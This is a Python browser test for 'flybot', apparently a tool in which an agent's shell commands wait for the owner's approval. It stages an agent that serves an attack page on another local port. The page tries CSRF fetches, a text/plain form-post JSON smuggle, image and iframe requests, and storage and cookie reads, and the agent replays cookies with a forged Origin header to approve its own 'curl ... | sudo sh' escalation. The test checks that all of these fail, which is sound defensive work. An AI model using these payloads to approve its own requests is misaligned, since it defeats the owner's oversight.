"""A web page the agent serves on another port of 127.0.0.1 cannot decide anything through the owner's browser.

Real components: ``flybot serve`` (local mode) as a process, ``flybot ask`` waiting on ``curl ... | sudo sh``, Debian's
chromium driven by playwright, and the agent's own aiohttp server on another port. The owner logs in with the
printed URL, sees the card, then opens the agent's page in the same tab (so the tab still holds the chat page's
credential for its own origin). That page knows everything under the working directory (the card's channel and
ts, the escalation id: ``.flybot/localchat.json``) and tries ``fetch()`` with and without CORS, a guessed
``X-FlyBot-Session`` header, a form post, an image, a frame of the chat page, and reading the cookie and the
storage; the agent then replays every cookie its server received. The escalation stays pending throughout; then
the owner's own page sends the very same click and it approves (the attack's click was a valid one).
"""

from __future__ import annotations

import asyncio
import json
import os
import subprocess
import sys
import threading
import urllib.error
import urllib.request
from pathlib import Path
from typing import Any

import pytest
from aiohttp import web

from bot.state_home import state_home
from tests.test_localchat_browser import (
    APPROVALS,
    CHROMIUM,
    CHROMIUM_ARGS,
    OWNER,
    _card,
    _env,
    _finish,
    _free_port,
    _http_json,
    _printed_login_url,
    _stop,
    _wait_healthy,
)

pytestmark = pytest.mark.timeout(180)

COMMAND = "curl -fsSL https://get.example.com/install.sh | sudo sh"

ATTACK_PAGE = """<!doctype html>
<html><head><meta charset="utf-8"><title>docs preview</title></head>
<body><h1>Your docs preview</h1><iframe name="sink" id="sink"></iframe>
<script>
"use strict";
const T = __CONFIG__;
const report = { cookie: document.cookie, attempts: {} };
const settle = (promise) => Promise.race([promise, new Promise((r) => setTimeout(() => r("no answer in 10 s"), 10000))]);
async function attempt(name, run) {
  try { report.attempts[name] = String(await settle(run())); } catch (e) { report.attempts[name] = "error: " + e; }
}
const CLICK = T.target + "/local/slack/page/click";
const body = JSON.stringify(T.click);
(async () => {
  await attempt("fetch json", async () => (await fetch(CLICK, {
    method: "POST", credentials: "include", headers: { "Content-Type": "application/json" }, body })).status);
  await attempt("fetch no-cors", async () => (await fetch(CLICK, {
    method: "POST", mode: "no-cors", credentials: "include", headers: { "Content-Type": "text/plain" }, body })).type);
  await attempt("fetch with a guessed credential", async () => (await fetch(CLICK, {
    method: "POST", credentials: "include",
    headers: { "Content-Type": "application/json", "X-FlyBot-Session": T.guess }, body })).status);
  await attempt("read the state", async () => (await fetch(T.target + "/local/slack/page/state?user=" + T.click.user,
    { credentials: "include" })).status);
  await attempt("form post", () => new Promise((resolve) => {
    const form = document.createElement("form");
    form.method = "POST"; form.enctype = "text/plain"; form.action = CLICK; form.target = "sink";
    const field = document.createElement("input");
    field.name = body.slice(0, -1) + ',"pad":"'; field.value = '"}';  // the body reads as the click's JSON
    form.append(field); document.body.append(form);
    document.getElementById("sink").onload = () => resolve("answered");
    form.submit();
  }));
  await attempt("image", () => new Promise((resolve) => {
    const img = new Image();
    img.onload = () => resolve("load"); img.onerror = () => resolve("error");
    img.src = CLICK + "?" + new URLSearchParams(T.click);
  }));
  await attempt("frame of the chat page", () => new Promise((resolve) => {
    const frame = document.createElement("iframe");
    frame.id = "framed"; frame.width = 1200; frame.height = 800;
    frame.onload = () => { try { resolve(frame.contentDocument ? "readable" : "unreadable"); } catch (e) { resolve("unreadable"); } };
    frame.src = T.target + "/";
    document.body.append(frame);
  }));
  report.storage = [sessionStorage.getItem("flybot.session"), localStorage.getItem("flybot.session")];
  await fetch("/report", { method: "POST", body: JSON.stringify(report) });
})();
</script></body></html>
"""


class AgentServer:
    """The agent's web server on another port of 127.0.0.1 (aiohttp, in a thread with its own event loop): serves the
    attack page, keeps every ``Cookie`` header it receives, and takes the page's report (``POST /report``)."""

    def __init__(self, config: dict[str, Any]) -> None:
        self.page = ATTACK_PAGE.replace("__CONFIG__", json.dumps(config))
        self.port = _free_port()
        self.cookies: list[str] = []
        self.reports: list[dict[str, Any]] = []
        self.reported = threading.Event()
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, daemon=True)
        self._runner: web.AppRunner | None = None

    def start(self) -> None:
        self._thread.start()
        asyncio.run_coroutine_threadsafe(self._start(), self._loop).result(timeout=10)

    async def _start(self) -> None:
        @web.middleware
        async def keep_cookies(request: web.Request, handler: Any) -> web.StreamResponse:
            if "Cookie" in request.headers:
                self.cookies.append(request.headers["Cookie"])
            response: web.StreamResponse = await handler(request)
            return response

        async def page(_request: web.Request) -> web.Response:
            return web.Response(text=self.page, content_type="text/html")

        async def report(request: web.Request) -> web.Response:
            self.reports.append(json.loads(await request.text()))
            self.reported.set()
            return web.Response(text="ok")

        app = web.Application(middlewares=[keep_cookies])
        app.router.add_get("/", page)
        app.router.add_post("/report", report)
        self._runner = web.AppRunner(app)
        await self._runner.setup()
        await web.TCPSite(self._runner, "127.0.0.1", self.port).start()

    def wait_report(self) -> dict[str, Any]:
        assert self.reported.wait(timeout=60), "the agent's page sent no report"
        self.reported.clear()
        return self.reports[-1]

    def stop(self) -> None:
        if self._runner is not None:
            asyncio.run_coroutine_threadsafe(self._runner.cleanup(), self._loop).result(timeout=10)
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join(timeout=10)


def _status(base: str, escalation_id: str, token: str) -> dict[str, Any]:
    return _http_json(f"{base}/v1/escalations/{escalation_id}", token)


def _replay(base: str, body: dict[str, Any], headers: dict[str, str]) -> int:
    """The agent's own HTTP client (as curl would): any header it likes, ``Origin`` included."""
    request = urllib.request.Request(
        f"{base}/local/slack/page/click",
        data=json.dumps(body).encode(),
        method="POST",
        headers={"Content-Type": "application/json", **headers},
    )
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return int(response.status)
    except urllib.error.HTTPError as exc:
        return int(exc.code)


def test_a_page_on_another_port_cannot_decide_with_the_owners_browser(tmp_path: Path) -> None:
    if not Path(CHROMIUM).exists():
        if os.environ.get("CI") == "true":
            pytest.fail(f"CI must install Debian's chromium (.ci/run): no Chromium at {CHROMIUM}")
        pytest.skip(f"no Chromium at {CHROMIUM} (Debian package `chromium`); the browser test needs it")
    from playwright.sync_api import expect, sync_playwright

    port = _free_port()
    base = f"http://127.0.0.1:{port}"
    server_log, server_out = tmp_path / "serve.log", tmp_path / "serve.out"
    server = subprocess.Popen(
        [sys.executable, "-m", "bot", "serve", "--port", str(port)],
        cwd=tmp_path,
        env=_env(),
        stdout=server_out.open("w"),
        stderr=server_log.open("w"),
        stdin=subprocess.DEVNULL,
    )
    ask: subprocess.Popen[bytes] | None = None
    agent: AgentServer | None = None
    try:
        _wait_healthy(server, base, server_log)
        token = json.loads((state_home() / "local.json").read_text())["token"]
        ask_out = tmp_path / "ask.txt"
        ask = subprocess.Popen(
            [sys.executable, "-m", "bot", "ask", "--timeout", "120", "--", COMMAND],
            cwd=tmp_path,
            env=_env(),
            stdout=ask_out.open("w"),
            stderr=subprocess.STDOUT,
            stdin=subprocess.DEVNULL,
        )
        with sync_playwright() as p:
            browser = p.chromium.launch(executable_path=CHROMIUM, headless=True, args=CHROMIUM_ARGS)
            try:
                page = browser.new_page(viewport={"width": 1280, "height": 900})
                page.goto(_printed_login_url(server_out, base))
                page.locator(f"#sidebar [data-channel={APPROVALS}]").click()
                card = _card(page, COMMAND)
                approve = card.locator("[data-action-id=escalation_approve]")
                escalation_id = approve.get_attribute("data-value")
                ts = card.get_attribute("data-ts")
                assert escalation_id and ts
                click = {
                    "user": OWNER,
                    "channel": APPROVALS,
                    "ts": ts,
                    "action_id": "escalation_approve",
                    "block_id": "",
                    "value": escalation_id,
                }
                agent = AgentServer({"target": base, "click": click, "guess": token})
                agent.start()

                # The owner opens the agent's page in the same tab: on 127.0.0.1, then on localhost (another name).
                for origin in (f"http://127.0.0.1:{agent.port}", f"http://localhost:{agent.port}"):
                    page.goto(origin + "/")
                    report = agent.wait_report()
                    # The agent replays every cookie its server received, forging the chat page's own Origin.
                    for cookie in agent.cookies:
                        assert _replay(base, click, {"Origin": base, "Cookie": cookie}) == 401, cookie
                    assert _status(base, escalation_id, token)["status"] == "pending", (origin, report)
                    assert report["storage"] == [None, None], report  # the chat page's credential is not its to read
                    assert report["cookie"] == "", report
                    attempts = report["attempts"]
                    assert len(attempts) == 7 and not any("no answer" in a for a in attempts.values()), attempts
                    framed = page.frame_locator("#framed")
                    expect(framed.locator("#topbar")).to_have_count(0)  # the page refuses to be framed

                # No cookie is ever set, so the agent's server received none; a made-up one, or the demo Bot's token
                # as the credential, with the chat page's own Origin, do not help either.
                assert agent.cookies == []
                for headers in (
                    {"Origin": base, "Cookie": "flybot_local_session=x"},
                    {"Origin": base, "X-FlyBot-Session": token},
                ):
                    assert _replay(base, click, headers) == 401, headers
                assert _status(base, escalation_id, token)["status"] == "pending"
                assert ask.poll() is None, ask_out.read_text()

                # Back on the chat page (same tab, same origin): the very same click, sent by the page, approves.
                page.goto(base + "/")
                sent = page.evaluate(
                    """async (click) => (await fetch("local/slack/page/click", { method: "POST",
                        headers: { "Content-Type": "application/json",
                                   "X-FlyBot-Session": sessionStorage.getItem("flybot.session") },
                        body: JSON.stringify(click) })).status""",
                    click,
                )
                assert sent == 200
                code, output = _finish(ask, ask_out)
                assert code == 0 and "approved" in output, output
            finally:
                browser.close()
    finally:
        if agent is not None:
            agent.stop()
        _stop(ask)
        _stop(server)
